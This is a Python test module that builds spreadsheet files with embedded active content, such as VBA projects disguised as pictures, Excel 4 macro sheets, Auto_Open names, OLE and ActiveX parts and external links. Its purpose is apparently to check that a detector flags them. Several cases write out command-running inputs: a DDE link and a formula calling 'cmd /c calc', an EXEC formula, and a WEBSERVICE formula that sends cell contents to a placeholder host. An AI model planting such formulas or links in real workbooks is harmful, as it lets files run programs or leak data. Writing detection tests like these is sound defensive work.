"""Content that could do something, under its own name and under innocent ones."""

from __future__ import annotations

from collections.abc import Iterator
from functools import partial

from tests.hostile.case import (
    BOOK,
    BOOK_RELATIONS,
    OVERVIEW,
    ROOT,
    TYPES,
    Case,
    case,
    good,
    related,
    replaced,
    spoiled,
    typed,
)
from tests.package.files import MAIN, RELATIONS, compound

_MICROSOFT = "http://schemas.microsoft.com/office"
_VBA = "application/vnd.ms-office.vbaProject"
_SHEET_RELATIONS = "xl/worksheets/_rels/sheet2.xml.rels"
_PROJECT = compound("Root Entry", "VBA", "dir")


def _book(kind: str, target: str, data: bytes, type_: str = "") -> bytes:
    """The workbook leads to an active part."""
    changes: dict[str, bytes | None] = {
        BOOK_RELATIONS: related(BOOK_RELATIONS, kind, target),
        f"xl/{target}": data,
    }
    if type_:
        entry = f'<Override PartName="/xl/{target}" ContentType="{type_}"/>'
        changes[TYPES] = typed(entry)
    return spoiled(changes)


def _on_sheet(kind: str, target: str, more: str = "") -> bytes:
    """The overview leads to something active."""
    return spoiled({_SHEET_RELATIONS: related(_SHEET_RELATIONS, kind, target, more),
                    "xl/media/iets.bin": b"x"})  # fmt: skip


def _lonely(part: str, type_: str, data: bytes = b"x") -> bytes:
    """A part that only the list of types gives away."""
    return spoiled(
        {part: data, TYPES: typed(f'<Override PartName="/{part}" ContentType="{type_}"/>')}
    )


def _link(inside: str, encoding: str = "utf-8", part: str = "externalLinks/e1.xml") -> bytes:
    text = f'<externalLink xmlns="{MAIN}" xmlns:r="{RELATIONS}">{inside}</externalLink>'
    return _book("externalLink", part, text.encode(encoding))


def _named(name: str) -> bytes:
    one = f'<definedName name="{name}" hidden="1">Overzicht!$A$1</definedName></definedNames>'
    return spoiled({BOOK: replaced(BOOK, "</definedNames>", one)})


def _root(kind: str, target: str, data: bytes) -> bytes:
    return spoiled({ROOT: related(ROOT, kind, target), target: data})


def cases() -> Iterator[Case]:
    """Give the rows of this part of the table."""
    office = "application/vnd.openxmlformats-officedocument"
    macro_main = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    for name, make in (
        ("a VBA project", partial(_book, f"{_MICROSOFT}/2006/relationships/vbaProject",
                                  "vbaProject.bin", _PROJECT, _VBA)),
        ("a VBA project called a picture",
         lambda: spoiled({"xl/media/image1.png": _PROJECT})),
        ("a VBA project called printer settings",
         lambda: spoiled({"xl/printerSettings/printerSettings1.bin": _PROJECT})),
        ("a VBA project called XML of the user's",
         partial(_book, f"{_MICROSOFT}/2006/relationships/vbaProject", "item1.dat", b"x")),
        ("a VBA project by type alone", partial(_lonely, "xl/theme/theme9.bin", _VBA)),
        ("macros by the type of the workbook", lambda: spoiled({TYPES: replaced(
            TYPES, f"{office}.spreadsheetml.sheet.main+xml", macro_main)})),
        ("a macro sheet of Excel 4", partial(
            _book, f"{_MICROSOFT}/2006/relationships/xlMacrosheet", "macrosheets/sheet1.xml",
            b"<a/>", "application/vnd.ms-excel.macrosheet+xml")),
        ("a macro sheet of Excel 4 by type alone",
         partial(_lonely, "xl/worksheets/blad.xml", "application/vnd.ms-excel.macrosheet+xml",
                 b"<a/>")),
        ("an international macro sheet", partial(
            _book, f"{_MICROSOFT}/2006/relationships/xlIntlMacrosheet", "x/s.xml", b"<a/>")),
        ("Auto_Open", partial(_named, "Auto_Open")),
        ("Auto_Open as a built-in name", partial(_named, "_xlnm.Auto_Open")),
        ("auto_open in small letters, with more behind it", partial(_named, "auto_open_1")),
        ("Auto_Close", partial(_named, "_xlnm.Auto_Close")),
    ):  # fmt: skip
        yield case("macros", name, make, "111", refused=False)
    dde = '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'
    for name, make in (
        ("a link to another workbook", partial(_link, '<externalBook r:id="rId1"/>')),
        ("a link by type alone", partial(
            _lonely, "xl/x.xml", f"{office}.spreadsheetml.externalLink+xml", b"<a/>")),
        ("DDE", partial(_link, dde)),
        ("DDE in UTF-16", partial(_link, dde, "utf-16")),
        ("DDE under an innocent name", partial(_link, dde, part="theme/thema2.xml")),
        ("an OLE link", partial(_link, '<oleLink progId="Word.Document" r:id="rId1"/>')),
        ("an embedded OLE object", partial(_on_sheet, "oleObject", "../media/iets.bin")),
        ("an OLE object elsewhere", partial(
            _on_sheet, "oleObject", "file://server/x.doc", 'TargetMode="External"')),
        ("an OLE object by type alone", partial(_lonely, "xl/x.dat", f"{office}.oleObject")),
        ("an embedded package", partial(_on_sheet, "package", "../media/iets.bin")),
        ("ActiveX", partial(_on_sheet, "control", "../media/iets.bin")),
        ("ActiveX, its binary half", partial(
            _on_sheet, f"{_MICROSOFT}/2006/relationships/activeXControlBinary",
            "../media/iets.bin")),
        ("ActiveX by type alone", partial(
            _lonely, "xl/x.xml", "application/vnd.ms-office.activeX+xml", b"<a/>")),
        ("a connection", partial(_book, "connections", "connections.xml", b"<a/>")),
        ("a connection by type alone", partial(
            _lonely, "xl/x.xml", f"{office}.spreadsheetml.connections+xml", b"<a/>")),
        ("a query", partial(_on_sheet, "queryTable", "../media/iets.bin")),
        ("a ribbon of 2007", partial(
            _root, f"{_MICROSOFT}/2006/relationships/ui/extensibility", "customUI/a.xml",
            b"<a/>")),
        ("a ribbon of 2010", partial(
            _root, f"{_MICROSOFT}/2007/relationships/ui/extensibility", "customUI/b.xml",
            b"<a/>")),
        ("an add-in that starts by itself", partial(
            _root, f"{_MICROSOFT}/2011/relationships/webextensiontaskpanes", "x/t.xml", b"<a/>")),
        ("a picture on the internet", partial(
            _on_sheet, "image", "https://x.example/teller.png", 'TargetMode="External"')),
        ("a picture on a server", partial(
            _on_sheet, "image", "file://server/deel/x.png", 'TargetMode="External"')),
        ("a picture by a formula", partial(
            _book, f"{_MICROSOFT}/2020/07/relationships/rdRichValueWebImage", "richData/w.xml",
            b"<a/>")),
    ):  # fmt: skip
        yield case("active", name, make, "113", refused=False)
    for name, make, codes in (
        ("a formula that starts a program", lambda: _formula("cmd|'/c calc'!A0"), "407 215 220"),
        ("a formula that asks the internet",
         lambda: _formula('WEBSERVICE("https://x.example/"&amp;A1)'), "407 215 220"),
        ("a formula that runs a macro", lambda: _formula('EXEC("calc.exe")'), "407 215 220"),
    ):  # fmt: skip
        yield case("active", name, make, codes, refused=False)
    for name, make in (
        ("a link to a page", partial(
            _on_sheet, "hyperlink", "https://x.example/", 'TargetMode="External"')),
        ("a word that looks like DDE", lambda: spoiled({
            "customXml/item1.xml": b"<ddeLink>externalLink</ddeLink>"})),
        ("printer settings", partial(_on_sheet, "printerSettings", "../media/iets.bin")),
    ):  # fmt: skip
        yield case("harmless", name, make, refused=False)


def _formula(text: str) -> bytes:
    """A formula in the first answer cell of the overview."""
    from tests.mutations.book import Book
    from tests.mutations.kind import at, base

    book = Book(base("issued"))
    book.sheet("Overzicht").formula(at("1.1", "evidence"), text.replace("&amp;", "&"), "x")
    assert OVERVIEW in good()
    return book.data()
